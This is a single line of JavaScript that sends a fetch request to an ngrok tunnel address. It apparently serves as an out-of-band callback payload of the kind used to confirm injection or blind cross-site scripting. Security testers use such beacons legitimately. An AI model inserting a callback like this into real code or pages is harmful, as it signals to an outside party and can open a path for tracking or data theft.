fetch("https://abc123.ngrok.io/x");
